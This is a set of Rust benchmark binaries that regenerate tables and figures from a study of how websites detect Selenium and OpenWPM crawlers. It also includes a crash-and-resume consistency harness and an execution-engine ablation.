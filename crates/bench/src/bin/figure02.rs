//! Fig. 2 — prototype pollution by the vanilla JS instrument.

#![deny(deprecated)]

use browser::{FingerprintProfile, Os, Page, RunMode};
use netsim::Url;
use openwpm::instrument::vanilla;
use openwpm::RecordStore;
use std::cell::RefCell;
use std::rc::Rc;

fn own_keys(page: &mut Page, expr: &str) -> String {
    page.run_script((
        format!("Object.getOwnPropertyNames({expr}).sort().join(', ')"),
        "probe",
    ))
    .unwrap()
    .as_str()
    .unwrap()
    .to_string()
}

fn main() {
    bench::banner("Figure 2: prototype pollution");
    let url = Url::parse("https://site.test/").unwrap();
    let mut clean = Page::new(
        FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular),
        url.clone(),
        None,
    );
    println!("(A) original object:");
    println!("  Document.prototype own keys: {}", own_keys(&mut clean, "Document.prototype"));
    println!("  Node.prototype own keys:     {}", own_keys(&mut clean, "Node.prototype"));
    println!(
        "  EventTarget.prototype keys:  {}",
        own_keys(&mut clean, "EventTarget.prototype")
    );

    let mut inst = Page::new(
        FingerprintProfile::openwpm(Os::Ubuntu1804, RunMode::Regular),
        url,
        None,
    );
    vanilla::install(&mut inst, 7, Rc::new(RefCell::new(RecordStore::new())), "p".into());
    println!("\n(B) polluted by the instrumentation:");
    println!("  Document.prototype own keys: {}", own_keys(&mut inst, "Document.prototype"));
    println!("  Node.prototype own keys:     {}", own_keys(&mut inst, "Node.prototype"));
    println!(
        "  EventTarget.prototype keys:  {}",
        own_keys(&mut inst, "EventTarget.prototype")
    );
    println!(
        "\nancestor-prototype methods (appendChild, addEventListener, …) now appear as own \
         properties of the FIRST prototype — the distinguisher of paper Fig. 2."
    );
    bench::finish("figure02", None);
}
