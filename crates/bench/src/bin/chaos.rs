//! `chaos`: kill the crawler and prove the resume is byte-exact.
//!
//! The paper's core complaint is that measurement tools degrade silently;
//! this harness applies it to the crawler itself. One uninterrupted
//! streaming scan is the reference; then, for a sweep of seeded
//! kill-points (clean post-flush, torn checkpoint line, torn bundle
//! append) × worker counts, the crawl is killed and resumed, and the
//! resumed bundle must match the reference in per-site records, Table 5
//! and telemetry digest — byte for byte. One case is additionally
//! realised as a *real* SIGKILL on a child process (spawned via
//! `--child-run`), not just an in-process unwind.
//!
//! Output: a human table of recovery statistics (records replayed, torn
//! lines dropped, re-visits, resume wall time) plus `BENCH_chaos.json`.
//! Exits non-zero on any divergence — how CI gates crash consistency.
//!
//! ```text
//! cargo run --release -p bench --bin chaos            # 5K sites
//! cargo run --release -p bench --bin chaos -- --smoke # 150 sites (CI)
//! ```

#![deny(deprecated)]

use std::path::{Path, PathBuf};

use gullible::obs;
use gullible::scan::{Scan, ScanConfig};
use gullible::{diff_bundles, ReplayBundle, STREAM_CHECKPOINT_FILE};
use openwpm::{catch_crash, CrashPlan, FaultPlan, KillPoint};

fn chaos_cfg(sites: u32, seed: u64, workers: usize) -> ScanConfig {
    ScanConfig {
        workers,
        faults: FaultPlan::adversarial(seed),
        flaky_sites_per_100k: 1_000,
        ..ScanConfig::new(sites, seed)
    }
}

fn tmp_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("gullible-chaos-bench-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

/// Child-process entry: run one streaming scan to completion. The parent
/// SIGKILLs this process mid-crawl (first run) or lets it finish (resume
/// run); either way the on-disk bundle is all that survives.
fn child_run(args: &[String]) -> ! {
    let [dir, sites, seed, workers] = args else {
        eprintln!("usage: chaos --child-run <dir> <sites> <seed> <workers>");
        std::process::exit(2);
    };
    let cfg = chaos_cfg(
        sites.parse().expect("sites"),
        seed.parse().expect("seed"),
        workers.parse().expect("workers"),
    );
    obs::set_stats(true);
    match Scan::new(cfg).stream_to(dir).run() {
        Ok(_) => std::process::exit(0),
        Err(e) => {
            eprintln!("child stream scan failed: {e}");
            std::process::exit(1);
        }
    }
}

struct CaseResult {
    label: String,
    workers: usize,
    real_kill: bool,
    replayed: u64,
    revisits: u64,
    lines_dropped: u64,
    tail_dropped: u64,
    peak_in_flight: u64,
    resume_ms: f64,
    matches: bool,
}

struct Reference {
    table5: String,
    records_digest: u64,
    telemetry_digest: u64,
    history_fp: u64,
}

fn reference_of(report: &gullible::ScanReport, dir: &Path) -> Reference {
    let bundle = ReplayBundle::open(dir).expect("sealed stream bundle");
    Reference {
        table5: format!("{:?}", report.table5()),
        records_digest: bundle.commit.records_digest,
        telemetry_digest: bundle.commit.telemetry_digest,
        history_fp: obs::fnv1a(format!("{:?}", report.history).as_bytes()),
    }
}

fn compare(case: &str, ours: &Reference, reference: &Reference, ref_dir: &Path, dir: &Path) -> bool {
    let mut ok = true;
    for (what, a, b) in [
        ("records digest", ours.records_digest, reference.records_digest),
        ("telemetry digest", ours.telemetry_digest, reference.telemetry_digest),
        ("history", ours.history_fp, reference.history_fp),
    ] {
        if a != b {
            eprintln!("MISMATCH [{case}]: {what}: {a:016x} vs reference {b:016x}");
            ok = false;
        }
    }
    if ours.table5 != reference.table5 {
        eprintln!("MISMATCH [{case}]: Table 5: {} vs {}", ours.table5, reference.table5);
        ok = false;
    }
    let (a, b) = (ReplayBundle::open(dir).unwrap(), ReplayBundle::open(ref_dir).unwrap());
    let diff = diff_bundles(&a, &b);
    if !diff.is_clean() {
        eprintln!("MISMATCH [{case}]: bundle diff has {} site deltas", diff.deltas.len());
        ok = false;
    }
    ok
}

/// Kill a real child process mid-crawl with SIGKILL once its checkpoint
/// shows `kill_after` flushed records, then resume in a *fresh* child.
fn real_kill_case(
    sites: u32,
    seed: u64,
    workers: usize,
    kill_after: usize,
    reference: &Reference,
    ref_dir: &Path,
) -> CaseResult {
    let dir = tmp_dir("sigkill");
    std::fs::create_dir_all(&dir).expect("mkdir");
    let exe = std::env::current_exe().expect("current_exe");
    let spawn = || {
        std::process::Command::new(&exe)
            .args([
                "--child-run",
                dir.to_str().unwrap(),
                &sites.to_string(),
                &seed.to_string(),
                &workers.to_string(),
            ])
            .stdout(std::process::Stdio::null())
            .spawn()
            .expect("spawn child crawler")
    };

    let mut child = spawn();
    let ckpt = dir.join(STREAM_CHECKPOINT_FILE);
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(120);
    loop {
        if std::time::Instant::now() > deadline {
            let _ = child.kill();
            panic!("child crawler never reached {kill_after} flushed records");
        }
        let lines = std::fs::read_to_string(&ckpt).map(|c| c.lines().count()).unwrap_or(0);
        // Header line + kill_after record lines.
        if lines > kill_after {
            break;
        }
        if let Ok(Some(status)) = child.try_wait() {
            panic!("child crawler exited early ({status}) before the kill landed");
        }
        std::thread::sleep(std::time::Duration::from_millis(2));
    }
    child.kill().expect("SIGKILL child");
    let _ = child.wait();

    // Resume in a fresh process; it must complete and seal the bundle.
    let t0 = std::time::Instant::now();
    let status = spawn().wait().expect("wait resumed child");
    let resume_ms = t0.elapsed().as_secs_f64() * 1e3;
    assert!(status.success(), "resumed child crawler failed: {status}");

    let bundle = ReplayBundle::open(&dir).expect("resumed child must seal the bundle");
    let ours = Reference {
        // The child's report isn't visible here; the sealed commit carries
        // everything the comparison needs. Table 5 comes from the commit.
        table5: format!("{:?}", bundle.commit.table5),
        records_digest: bundle.commit.records_digest,
        telemetry_digest: bundle.commit.telemetry_digest,
        history_fp: reference.history_fp, // compared via records digest instead
    };
    let reference_t5 = Reference {
        table5: format!("{:?}", ReplayBundle::open(ref_dir).unwrap().commit.table5),
        ..Reference {
            table5: String::new(),
            records_digest: reference.records_digest,
            telemetry_digest: reference.telemetry_digest,
            history_fp: reference.history_fp,
        }
    };
    let matches = compare("real SIGKILL", &ours, &reference_t5, ref_dir, &dir);
    let replayed = std::fs::read_to_string(&ckpt)
        .map(|c| c.lines().count().saturating_sub(1) as u64)
        .unwrap_or(0);
    CaseResult {
        label: format!("sigkill@{kill_after}"),
        workers,
        real_kill: true,
        replayed,
        revisits: 0,
        lines_dropped: 0,
        tail_dropped: 0,
        peak_in_flight: 0,
        resume_ms,
        matches,
    }
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    if args.first().map(String::as_str) == Some("--child-run") {
        child_run(&args[1..]);
    }
    let smoke = args.iter().any(|a| a == "--smoke");
    let sites: u32 = if smoke {
        150
    } else {
        std::env::var("GULLIBLE_SITES").ok().and_then(|v| v.parse().ok()).unwrap_or(5_000)
    };
    let seed = bench::seed();
    let worker_counts: &[usize] = &[1, 4];

    // Injected crashes unwind with a sentinel panic by design; keep their
    // backtraces out of the bench output while leaving real panics loud.
    let default_hook = std::panic::take_hook();
    std::panic::set_hook(Box::new(move |info| {
        let msg = info
            .payload()
            .downcast_ref::<String>()
            .map(String::as_str)
            .or_else(|| info.payload().downcast_ref::<&str>().copied())
            .unwrap_or("");
        if !msg.contains("__gullible_injected_crash__") {
            default_hook(info);
        }
    }));

    bench::banner(&format!(
        "chaos: crash→resume equivalence, {sites} sites{}",
        if smoke { " (smoke)" } else { "" }
    ));

    // Reference: one uninterrupted streaming run per worker count (they
    // must agree with each other too, but the scaling bench owns that
    // claim; here workers=4's bundle is the reference for everyone).
    let ref_dir = tmp_dir("reference");
    obs::reset();
    obs::set_stats(true);
    let t0 = std::time::Instant::now();
    let ref_report = Scan::new(chaos_cfg(sites, seed, 4)).stream_to(&ref_dir).run().expect("reference");
    let ref_elapsed_ms = t0.elapsed().as_secs_f64() * 1e3;
    let reference = reference_of(&ref_report, &ref_dir);
    let ref_stream = ref_report.stream.expect("stream stats");
    println!(
        "reference: {sites} sites in {:.1} ms, peak {} records in flight (workers 4)\n",
        ref_elapsed_ms, ref_stream.peak_records_in_flight
    );
    assert!(
        ref_stream.peak_records_in_flight <= 4 + 1,
        "streaming must hold O(workers) records in memory, saw {}",
        ref_stream.peak_records_in_flight
    );

    type MkKill = fn(u32) -> KillPoint;
    let kill_classes: &[(&str, MkKill)] = &[
        ("post_visit", |k| KillPoint::AfterVisit(k)),
        ("mid_checkpoint", |k| KillPoint::MidCheckpointLine(k, 17)),
        ("mid_bundle_append", |k| KillPoint::MidBundleAppend(k, 23)),
    ];
    let mut cases: Vec<CaseResult> = Vec::new();
    let mut failures = 0usize;

    for &workers in worker_counts {
        for (i, (class, mk)) in kill_classes.iter().enumerate() {
            // Kill somewhere in the middle of the crawl, staggered per
            // class so different resume shapes get exercised.
            let k = sites / 4 + (i as u32 * sites) / 8;
            let kill = mk(k.max(1));
            let dir = tmp_dir(&format!("{class}-w{workers}"));

            obs::reset();
            obs::set_stats(true);
            let crashed = catch_crash(|| {
                Scan::new(chaos_cfg(sites, seed, workers))
                    .stream_to(&dir)
                    .inject_crash(CrashPlan::new(kill))
                    .run()
            });
            assert!(crashed.is_none(), "planned kill {kill:?} must crash the crawl");

            obs::reset();
            obs::set_stats(true);
            let t0 = std::time::Instant::now();
            let resumed = Scan::new(chaos_cfg(sites, seed, workers))
                .stream_to(&dir)
                .run()
                .expect("resume");
            let resume_ms = t0.elapsed().as_secs_f64() * 1e3;
            let ours = reference_of(&resumed, &dir);
            let stream = resumed.stream.expect("stream stats");
            let label = format!("{class}@{}", kill.flush_ordinal());
            let matches = compare(&label, &ours, &reference, &ref_dir, &dir);
            if !matches {
                failures += 1;
            }
            cases.push(CaseResult {
                label,
                workers,
                real_kill: false,
                replayed: stream.records_replayed,
                revisits: stream.revisits,
                lines_dropped: stream.checkpoint_lines_dropped,
                tail_dropped: stream.bundle_tail_dropped,
                peak_in_flight: stream.peak_records_in_flight,
                resume_ms,
                matches,
            });
            assert!(
                stream.peak_records_in_flight <= workers as u64 + 1,
                "resume with {workers} workers peaked at {} records in flight",
                stream.peak_records_in_flight
            );
        }
    }

    // One real SIGKILL on a child process, resumed in a fresh process.
    obs::reset();
    let real = real_kill_case(sites, seed, 4, (sites / 3) as usize, &reference, &ref_dir);
    if !real.matches {
        failures += 1;
    }
    cases.push(real);

    println!("\ncase                     workers  replayed  revisits  torn-lines  torn-tail  resume");
    for c in &cases {
        println!(
            "{:<24} {:>7}  {:>8}  {:>8}  {:>10}  {:>9}  {:>5.0}ms{}",
            c.label,
            c.workers,
            c.replayed,
            c.revisits,
            c.lines_dropped,
            c.tail_dropped,
            c.resume_ms,
            if c.real_kill { "  (real SIGKILL)" } else { "" },
        );
    }
    println!(
        "\ncrash→resume {} across {} cases (records {:016x}, telemetry {:016x})",
        if failures == 0 { "BYTE-IDENTICAL" } else { "DIVERGED" },
        cases.len(),
        reference.records_digest,
        reference.telemetry_digest,
    );

    let mut json = format!(
        "{{\"suite\":\"chaos\",\"sites\":{sites},\"seed\":{seed},\"smoke\":{smoke},\
         \"reference_elapsed_ms\":{ref_elapsed_ms:.3},\"peak_records_in_flight\":{},\
         \"records_digest\":\"{:016x}\",\"telemetry_digest\":\"{:016x}\",\"cases\":[",
        ref_stream.peak_records_in_flight, reference.records_digest, reference.telemetry_digest,
    );
    for (i, c) in cases.iter().enumerate() {
        if i > 0 {
            json.push(',');
        }
        let mut label = String::new();
        obs::push_json_string(&mut label, &c.label);
        json.push_str(&format!(
            "{{\"case\":{label},\"workers\":{},\"real_kill\":{},\"replayed\":{},\
             \"revisits\":{},\"lines_dropped\":{},\"tail_dropped\":{},\
             \"peak_in_flight\":{},\"resume_ms\":{:.3},\"match\":{}}}",
            c.workers,
            c.real_kill,
            c.replayed,
            c.revisits,
            c.lines_dropped,
            c.tail_dropped,
            c.peak_in_flight,
            c.resume_ms,
            c.matches,
        ));
    }
    json.push_str(&format!("],\"all_match\":{},\"config\":\"{:016x}\"}}", failures == 0, bench::run_config_hash()));
    println!("{json}");
    if let Err(e) = std::fs::write("BENCH_chaos.json", format!("{json}\n")) {
        eprintln!("warning: could not write BENCH_chaos.json: {e}");
    }

    bench::finish("chaos", Some(&format!("{} kill cases at {sites} sites", cases.len())));
    if failures > 0 {
        eprintln!("{failures} cases diverged — crash consistency broke");
        std::process::exit(1);
    }
}
