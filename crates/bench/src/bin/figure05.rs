//! Fig. 5 — common categories of sites with detectors.

#![deny(deprecated)]

use gullible::report::TextTable;
use gullible::Scan;

fn main() {
    bench::banner("Figure 5: categories of detector sites");
    let report = Scan::new(bench::scan_config()).run().expect("scan");
    let (first, third) = report.category_tallies();
    let total_first: u32 = first.values().sum();
    let total_third: u32 = third.values().sum();
    let mut table = TextTable::new("Figure 5 — category shares of detector sites");
    table.header(&["category", "third-party %", "first-party %", "paper (3rd / 1st)"]);
    let paper: &[(&str, &str)] = &[
        ("News", "18.4% / 5%"),
        ("Technology", "9% / -"),
        ("Business", "7% / -"),
        ("Shopping", "5% / 16.4%"),
        ("Finance", "3% / 8%"),
        ("Travel", "2% / 7%"),
    ];
    let mut cats: Vec<&str> = third.keys().chain(first.keys()).copied().collect();
    cats.sort();
    cats.dedup();
    let mut rows: Vec<(&str, f64, f64)> = cats
        .iter()
        .map(|c| {
            let t = *third.get(c).unwrap_or(&0) as f64 * 100.0 / total_third.max(1) as f64;
            let f = *first.get(c).unwrap_or(&0) as f64 * 100.0 / total_first.max(1) as f64;
            (*c, t, f)
        })
        .collect();
    rows.sort_by(|a, b| b.1.partial_cmp(&a.1).unwrap());
    for (cat, t, f) in rows {
        let p = paper.iter().find(|(c, _)| *c == cat).map(|(_, p)| *p).unwrap_or("-");
        table.row(&[cat.to_string(), format!("{t:.1}%"), format!("{f:.1}%"), p.to_string()]);
    }
    println!("{}", table.render());
    println!(
        "News leads third-party inclusions; Shopping leads first-party (the rank switch of \
         Sec. 4.3)."
    );
    println!("{}", gullible::report::coverage_note(&report.completion));
    bench::finish("figure05", Some(&report.coverage_line()));
}
