//! Table 7 — domains hosting third-party detector scripts.

#![deny(deprecated)]

use gullible::report::{thousands, TextTable};
use gullible::Scan;

fn main() {
    bench::banner("Table 7: third-party detector hosting domains");
    let report = Scan::new(bench::scan_config()).run().expect("scan");
    let t7 = report.table7();
    let total: u32 = t7.iter().map(|(_, n)| n).sum();
    let mut table = TextTable::new("Table 7 — third-party hosting domains (1 inclusion/site)");
    table.header(&["#", "hosting domain", "inclusions", "%", "paper %"]);
    let paper: &[(&str, &str)] = &[
        ("yandex.ru", "18.04%"),
        ("adsafeprotected.com", "10.83%"),
        ("moatads.com", "10.15%"),
        ("webgains.io", "9.81%"),
        ("crazyegg.com", "7.28%"),
        ("intercomcdn.com", "4.98%"),
        ("teads.tv", "4.00%"),
        ("jsdelivr.net", "1.98%"),
        ("mxcdn.net", "1.95%"),
        ("mgid.com", "1.89%"),
    ];
    for (i, (domain, count)) in t7.iter().take(10).enumerate() {
        let paper_pct = paper.iter().find(|(d, _)| d == domain).map(|(_, p)| *p).unwrap_or("-");
        table.row(&[
            (i + 1).to_string(),
            domain.clone(),
            thousands(*count as u64),
            format!("{:.2}%", *count as f64 * 100.0 / total as f64),
            paper_pct.to_string(),
        ]);
    }
    let tail: u32 = t7.iter().skip(10).map(|(_, n)| n).sum();
    table.row(&[
        "11+".into(),
        format!("remaining {} domains", t7.len().saturating_sub(10)),
        thousands(tail as u64),
        format!("{:.1}%", tail as f64 * 100.0 / total as f64),
        "29.1%".into(),
    ]);
    println!("{}", table.render());
    let (first, third) = report.inclusion_totals();
    println!(
        "first-party detector scripts: {} | third-party inclusions: {} (paper: 3,867 / 21,325 \
         at 100K)",
        thousands(first as u64),
        thousands(third as u64)
    );
    println!("{}", gullible::report::coverage_note(&report.completion));
    bench::finish("table07", Some(&report.coverage_line()));
}
