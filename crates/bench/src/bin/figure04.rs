//! Fig. 4 — detectors found on front pages: static vs dynamic, per bucket.

#![deny(deprecated)]

use gullible::report::thousands;
use gullible::Scan;

fn main() {
    bench::banner("Figure 4: front-page detectors, static vs dynamic analysis");
    let report = Scan::new(bench::scan_config()).run().expect("scan");
    let bucket = (report.n_sites / 20).max(1);
    println!("bucket size: {} ranks\n", thousands(bucket as u64));
    println!("{:<14} {:>10} {:>10}", "rank bucket", "static", "dynamic");
    for (i, counts) in report.rank_buckets(bucket).iter().enumerate() {
        println!(
            "{:<14} {:>10} {:>10}   {}",
            format!("{}..{}", i as u32 * bucket, (i as u32 + 1) * bucket),
            counts[0],
            counts[1],
            "#".repeat((counts[1] as usize * 40 / bucket.max(1) as usize).min(60))
        );
    }
    let s = report.count(|x| x.front.static_true);
    let d = report.count(|x| x.front.dynamic_true);
    let u = report.count(|x| x.front.union_true());
    println!(
        "\nfront pages: static {} dynamic {} union {} (paper: 11,897 / 12,208 / 13,989 at 100K; \
         both methods find similar per-bucket volumes but do not fully overlap)",
        thousands(s as u64),
        thousands(d as u64),
        thousands(u as u64)
    );
    println!("{}", gullible::report::coverage_note(&report.completion));
    bench::finish("figure04", Some(&report.coverage_line()));
}
