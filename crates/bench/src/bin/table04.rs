//! Table 4 — WebGL vendor and screen.avail{Top,Left} for Ubuntu modes.

#![deny(deprecated)]

use browser::{FingerprintProfile, Os, RunMode};
use gullible::report::TextTable;

fn main() {
    bench::banner("Table 4: Ubuntu no-display deviations");
    let mut table = TextTable::new("Table 4 — selected deviations, Ubuntu modes");
    table.header(&["Mode", "WebGL vendor/renderer", "avail{Left, Top}"]);
    for mode in [RunMode::Regular, RunMode::Headless, RunMode::Xvfb, RunMode::Docker] {
        let p = FingerprintProfile::openwpm(Os::Ubuntu1804, mode);
        let webgl = match &p.webgl {
            None => "Null".to_string(),
            Some(w) => format!("{} {}", w.vendor, w.renderer),
        };
        table.row(&[
            mode.name().to_string(),
            webgl,
            format!("{}, {}", p.avail_left, p.avail_top),
        ]);
    }
    println!("{}", table.render());
    println!(
        "paper: RM 'AMD AMD TAHITI' 27,72 | HM Null 0,0 | Xvfb Mesa/llvmpipe 0,0 | Docker \
         'VMware, Inc. llvmpipe' 27,72."
    );
    bench::finish("table04", None);
}
