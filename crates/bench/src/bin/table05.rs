//! Table 5 — number of websites with Selenium detectors (static / dynamic /
//! union, identified vs without false positives).

#![deny(deprecated)]

use gullible::report::{pct, thousands, TextTable};
use gullible::Scan;

fn main() {
    bench::banner("Table 5: sites with Selenium detectors");
    let report = Scan::new(bench::scan_config()).run().expect("scan");
    let [(si, st), (di, dt), (ui, ut)] = report.table5();
    let n = report.n_sites as u64;
    let mut table = TextTable::new("Table 5 — sites with Selenium detectors (front + subpages)");
    table.header(&["# sites", "static", "dynamic", "union", "paper (static/dynamic/union)"]);
    table.row(&[
        "identified".into(),
        thousands(si as u64),
        thousands(di as u64),
        thousands(ui as u64),
        format!("{}/{}/{} at 100K", 32_694, 19_139, 38_264),
    ]);
    table.row(&[
        "w/o FPs / inconclusive".into(),
        thousands(st as u64),
        thousands(dt as u64),
        thousands(ut as u64),
        format!("{}/{}/{} at 100K", 15_838, 16_762, 18_714),
    ]);
    println!("{}", table.render());
    let (scripts_total, scripts_unique) = report.script_stats();
    println!(
        "scripts collected: {} ({} unique; paper: 1,535,306 unique at 100K)",
        thousands(scripts_total),
        thousands(scripts_unique)
    );
    println!(
        "union w/o FPs = {} of {} sites = {} (paper: 18.7%); scaled paper target ≈ {}",
        thousands(ut as u64),
        thousands(n),
        pct(ut as u64, n),
        thousands(bench::scale_target(18_714)),
    );
    println!("{}", gullible::report::coverage_note(&report.completion));
    bench::finish("table05", Some(&report.coverage_line()));
}
