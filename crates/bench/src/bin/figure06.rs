//! Fig. 6 — per-API call coverage of WPM relative to WPM_hide.

#![deny(deprecated)]

use gullible::report::TextTable;
use gullible::run_compare;

fn main() {
    bench::banner("Figure 6: JS-call coverage per API (WPM / WPM_hide)");
    let report = run_compare(bench::compare_config());
    let cov = report.coverage(0);
    let mut table = TextTable::new("Figure 6 — API call coverage, run 1");
    table.header(&["symbol", "WPM calls", "WPM_hide calls", "coverage"]);
    let mut rows: Vec<(&String, &(u64, u64))> = cov.iter().collect();
    rows.sort_by_key(|(_, (w, h))| ((*w as f64 / (*h).max(1) as f64) * 1000.0) as u64);
    for (sym, (w, h)) in rows {
        if *h == 0 {
            continue;
        }
        let coverage = *w as f64 * 100.0 / *h as f64;
        table.row(&[
            sym.clone(),
            w.to_string(),
            h.to_string(),
            format!("{coverage:.0}%"),
        ]);
    }
    println!("{}", table.render());
    println!(
        "paper: coverage gaps up to 37%-points (Screen.availLeft 63%); gaps here come from \
         (a) the racy frame injection losing immediate in-frame accesses and (b) prototype \
         pollution leaving element-level Node methods unwrapped."
    );
    bench::finish("figure06", None);
}
