//! Execution-backend ablation: the same measurement under the tree-walking
//! oracle and the bytecode VM, proving (a) the VM is observably identical —
//! per-site records, crawl history, Table 5 and the telemetry digest are
//! byte-for-byte the same — and (b) it pays for itself (≥ 2× visit
//! throughput on an interpretation-dominated workload).
//!
//! ```text
//! cargo run --release -p bench --bin ablation_engine             # full run
//! cargo run --release -p bench --bin ablation_engine -- --smoke  # CI gate
//! ```
//!
//! Output: the human comparison plus `BENCH_engine.json`. Exits non-zero if
//! the engines disagree on any artifact or (full mode) the speedup target
//! is missed, so CI can gate on it.

#![deny(deprecated)]

use gullible::obs;
use gullible::{Scan, ScanConfig};
use jsengine::{Engine, Interp};

fn smoke_mode() -> bool {
    std::env::args().any(|a| a == "--smoke")
}

fn scan_cfg() -> ScanConfig {
    let cap = if smoke_mode() { 300 } else { 5_000 };
    let n = bench::n_sites().min(cap);
    let mut cfg = ScanConfig::new(n, bench::seed());
    cfg.workers = bench::workers();
    cfg.faults = bench::env::fault_plan();
    cfg
}

/// One differential leg: a full fixed-seed scan under `engine`, returning
/// the report and the deterministic telemetry digest.
fn scan_leg(engine: Engine) -> (gullible::ScanReport, u64) {
    obs::reset();
    // `reset` clears the stats flag; re-arm it so both legs actually
    // record the metrics whose digest we compare.
    obs::set_stats(true);
    jsengine::cache().clear();
    let report =
        Scan::new(scan_cfg()).engine(engine).run().expect("scan without checkpoint cannot fail");
    let digest = obs::registry().snapshot().digest();
    (report, digest)
}

/// A synthetic page script that keeps the *walk* hot: tight nested loops of
/// inline arithmetic, string building, property churn and `for`-`in` — the
/// statement mix of the population's heaviest pages, wrapped in a function
/// the way real page scripts ship (top-level `var`s would instead exercise
/// the global *object*, which is property-table work shared by both
/// backends, not interpretation). Calls appear but do not dominate: call
/// setup (scope + frame allocation) is runtime shared by both backends.
const HOT_SCRIPT: &str = "\
function page() {
    var total = 0;
    function mix(i, j) { return (i * 31 + j * 17) % 97; }
    for (var i = 0; i < 200; i++) {
        var acc = 0;
        for (var j = 0; j < 64; j++) {
            acc += (i * 31 + j * 17) % 97;
            acc = (acc * 2 + j) % 1024;
        }
        total += acc + mix(i, acc);
    }
    var s = '';
    for (var j = 0; j < 80; j++) { s += j % 10; }
    total += s.length;
    var o = {};
    for (var k = 0; k < 60; k++) { o['k' + (k % 12)] = k; }
    var seen = 0;
    for (var key in o) { seen += o[key]; }
    return total + seen;
}
page()
";

/// Visits/second running the hot script under `engine`: one realm template,
/// one shared compiled handle, a cloned realm per visit — the scan's
/// shared-artifact path with everything but interpretation stripped away.
fn throughput(engine: Engine, visits: u32) -> (f64, f64) {
    let cs = jsengine::compile(HOT_SCRIPT, "hot.js").expect("hot script parses");
    if engine == Engine::Vm {
        cs.chunk(); // compile the bytecode outside the timed region
    }
    // Cloned realms re-read the process-wide default at clone time (so a
    // host can flip backends after building its template) — arm it for
    // this leg rather than setting the template's own field.
    jsengine::set_default_engine(engine);
    let template = Interp::new();
    let mut check = template.clone_realm();
    let expected = check.eval_compiled(&cs).expect("hot script runs");
    // Warm-up, then the timed region.
    for _ in 0..visits / 10 + 1 {
        let mut it = template.clone_realm();
        let _ = it.eval_compiled(&cs);
    }
    let t0 = std::time::Instant::now();
    for _ in 0..visits {
        let mut it = template.clone_realm();
        let got = it.eval_compiled(&cs).expect("hot script runs");
        assert_eq!(got, expected, "nondeterministic hot script");
    }
    let wall = t0.elapsed().as_secs_f64();
    (visits as f64 / wall, wall)
}

fn main() {
    bench::banner("ablation: MiniJS execution backend (tree oracle vs bytecode VM)");

    // Warm-up scan: fills the webgen materialisation memo and other lazy
    // one-off state shared by both legs.
    let _ = Scan::new(scan_cfg()).run();

    // --- differential gate -------------------------------------------------
    let (tree_report, tree_digest) = scan_leg(Engine::Tree);
    let (vm_report, vm_digest) = scan_leg(Engine::Vm);

    let mut ok = true;
    if tree_report.sites != vm_report.sites
        || tree_report.history != vm_report.history
        || tree_report.table5() != vm_report.table5()
    {
        println!("FAIL: scan results differ between engines");
        ok = false;
    }
    if tree_digest != vm_digest {
        println!("FAIL: telemetry digest differs: {tree_digest:016x} vs {vm_digest:016x}");
        ok = false;
    }
    if ok {
        println!(
            "differential gate: {} sites byte-identical, digest {vm_digest:016x}",
            vm_report.sites.len()
        );
    }

    // --- throughput --------------------------------------------------------
    let visits = if smoke_mode() { 60 } else { 600 };
    let (tree_vps, tree_wall) = throughput(Engine::Tree, visits);
    let (vm_vps, vm_wall) = throughput(Engine::Vm, visits);
    let speedup = vm_vps / tree_vps;
    println!("interp-phase throughput ({visits} visits of the hot script):");
    println!("  tree oracle: {tree_vps:>10.1} visits/s ({tree_wall:.2}s)");
    println!("  bytecode vm: {vm_vps:>10.1} visits/s ({vm_wall:.2}s)");
    println!("  speedup:     {speedup:>10.2}x (target >= 2.00x)");
    if speedup < 2.0 {
        if smoke_mode() {
            // Smoke runs share CI machines; the digest gate is the hard
            // check there, throughput is informational.
            println!("note: speedup below 2.0x in smoke mode (not enforced)");
        } else {
            println!("FAIL: speedup below 2.0x");
            ok = false;
        }
    }

    // --- artifact ----------------------------------------------------------
    let json = format!(
        "{{\"suite\":\"engine_ablation\",\"sites\":{},\"visits\":{visits},\
         \"tree_visits_per_sec\":{tree_vps:.1},\"vm_visits_per_sec\":{vm_vps:.1},\
         \"speedup\":{speedup:.2},\"digest\":\"{vm_digest:016x}\",\
         \"digests_equal\":{}}}",
        vm_report.sites.len(),
        tree_digest == vm_digest,
    );
    if let Err(e) = std::fs::write("BENCH_engine.json", format!("{json}\n")) {
        eprintln!("warning: could not write BENCH_engine.json: {e}");
    }
    println!("wrote BENCH_engine.json");

    bench::finish("ablation_engine", Some(&vm_report.coverage_line()));
    if !ok {
        std::process::exit(1);
    }
}
