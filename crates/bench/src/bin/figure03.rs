//! Fig. 3 — detectors on front pages vs incl. subpages, per rank bucket.

#![deny(deprecated)]

use gullible::report::{pct, thousands};
use gullible::Scan;

fn main() {
    bench::banner("Figure 3: front- vs subpage detectors per rank bucket");
    let report = Scan::new(bench::scan_config()).run().expect("scan");
    let bucket = (report.n_sites / 20).max(1);
    println!("bucket size: {} ranks\n", thousands(bucket as u64));
    println!("{:<14} {:>12} {:>16}", "rank bucket", "front (dyn)", "front+sub (dyn)");
    for (i, counts) in report.rank_buckets(bucket).iter().enumerate() {
        let bar = |n: u32| "#".repeat((n as usize * 40 / bucket.max(1) as usize).min(60));
        println!(
            "{:<14} {:>12} {:>16}   {}",
            format!("{}..{}", i as u32 * bucket, (i as u32 + 1) * bucket),
            counts[1],
            counts[3],
            bar(counts[3])
        );
    }
    let front = report.count(|s| s.front.dynamic_true);
    let site = report.count(|s| s.site.dynamic_true);
    println!(
        "\nactive-detector sites: front {} → incl. subpages {} (+{:.0}%; paper: +37%, 14% → 19% \
         union: front {} → {} of {})",
        thousands(front as u64),
        thousands(site as u64),
        (site as f64 / front as f64 - 1.0) * 100.0,
        pct(report.count(|s| s.front.union_true()) as u64, report.n_sites as u64),
        pct(report.count(|s| s.site.union_true()) as u64, report.n_sites as u64),
        thousands(report.n_sites as u64),
    );
    println!("{}", gullible::report::coverage_note(&report.completion));
    bench::finish("figure03", Some(&report.coverage_line()));
}
