//! The `GULLIBLE_*` environment knobs, parsed in exactly one place.
//!
//! Every regeneration binary and the umbrella `repro` runner read their
//! configuration from these variables; nothing else in the workspace calls
//! `std::env::var` for a `GULLIBLE_*` name except [`FaultPlan::from_env`]
//! (which this module re-wraps as [`fault_plan`]).
//!
